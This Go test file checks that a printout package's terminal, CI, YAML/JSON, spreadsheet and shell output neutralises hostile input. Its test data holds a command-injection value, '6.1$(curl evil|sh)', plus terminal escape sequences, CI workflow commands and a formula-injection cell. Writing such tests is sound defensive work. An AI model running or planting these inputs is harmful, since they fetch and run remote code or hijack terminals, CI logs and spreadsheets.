package printout_test

import (
	"strings"
	"testing"
	"unicode/utf8"

	"sigs.k8s.io/yaml"

	"github.com/kubeshark/kubeshark-pfring/internal/printout"
)

func TestATableIsAlignedAndLeavesTheTerminalAlone(t *testing.T) {
	var b strings.Builder
	printout.Table(&b, [][]string{{"Node", "Kernel", "Why"}, {"n1", "", ""}, {"node\x1b[31m-2\r", "6.1\n.0", "a \u202etxt.exe"}})
	const want = "Node        Kernel  Why\nn1          -\nnode[31m-2  6.1 .0  a txt.exe\n"
	if b.String() != want {
		t.Errorf("got\n%q\nwant\n%q", b.String(), want)
	}
}

func TestDocumentsAreForPeopleToo(t *testing.T) {
	v := map[string]string{"a": "<b> & c"}
	for name, c := range map[string]struct {
		write func(*strings.Builder) error
		want  string
	}{
		"JSON": {func(b *strings.Builder) error { return printout.JSON(b, v) }, "{\n  \"a\": \"<b> & c\"\n}\n"},
		"YAML": {func(b *strings.Builder) error { return printout.YAML(b, v) }, "a: <b> & c\n"},
	} {
		var b strings.Builder
		if err := c.write(&b); err != nil || b.String() != c.want {
			t.Errorf("%s: %q, %v", name, b.String(), err)
		}
	}
	if err := printout.YAML(&strings.Builder{}, func() {}); err == nil {
		t.Error("a function was written as YAML")
	}
}

// What a node or a server says must not steer a terminal, a CI or a spreadsheet.
func TestTextFromElsewhereIsHarmless(t *testing.T) {
	const hostile = "a\x1b]0;pwn\x07\r\n::error::b\u202e\u0085\u009bc"
	for name, got := range map[string]string{
		"a line": printout.Line(hostile), "lines": printout.Lines(hostile), "a command to the CI": printout.Line("\n ::error::b"),
		"an old one": printout.Line("a ##[error]b"), "a cell": printout.Cell("=HYPERLINK(\"x\")"), "a tab before it": printout.Cell("\t@SUM(1)"),
	} {
		for line := range strings.Lines(got) {
			if strings.ContainsAny(line, "\x1b\x07\r\u202e\u0085\u009b") || strings.HasPrefix(strings.TrimSpace(line), "::") ||
				strings.Contains(line, "##[") || strings.ContainsAny(line[:1], "=@") {
				t.Errorf("%s: %q", name, got)
			}
		}
	}
	var asJSON, asYAML strings.Builder
	v := map[string]string{"kernel": hostile}
	if err := printout.JSON(&asJSON, v); err != nil {
		t.Fatal(err)
	}
	if err := printout.YAML(&asYAML, v); err != nil {
		t.Fatal(err)
	}
	for _, got := range []string{asJSON.String(), asYAML.String()} {
		var back map[string]string
		err := yaml.Unmarshal([]byte(got), &back)
		if err != nil || strings.ReplaceAll(back["kernel"], "\u202e", "") != strings.ReplaceAll(hostile, "\u202e", "") || strings.ContainsAny(got, "\x1b\u202e\u0085\u009b") {
			t.Errorf("%q reads back as %q, %v", got, back, err)
		}
	}
}

func TestCommandsToCopyAreQuoted(t *testing.T) {
	for in, want := range map[string]string{
		"6.1.0-18-amd64": "6.1.0-18-amd64", "6.12.48+deb13": "6.12.48+deb13", "6.1$(curl evil|sh)": "'6.1$(curl evil|sh)'", "it's": `'it'\''s'`, "": "''",
	} {
		if got := printout.Shell(in); got != want {
			t.Errorf("%q: %s, want %s", in, got, want)
		}
	}
}

func TestTablesAndTextsFitTheTerminal(t *testing.T) {
	rows := [][]string{{"Node", "Kernel", "Reason"}, {"a-node-with-a-very-long-name.example.com", "6.1.0-18-amd64", strings.Repeat("a long story ", 20)}, {"b", "6.1", ""}}
	for _, width := range []int{40, 60, 80, 120, 500} {
		var b strings.Builder
		printout.TableIn(&b, rows, width)
		printout.Wrap(&b, "    ", strings.Repeat("word ", 40), width)
		for line := range strings.Lines(b.String()) {
			if got := utf8.RuneCountInString(strings.TrimRight(line, "\n")); got > width {
				t.Errorf("%d of %d characters: %q", got, width, line)
			}
		}
		if width == 500 && strings.Contains(b.String(), "…") {
			t.Errorf("cut without need:\n%s", b.String())
		}
	}
}
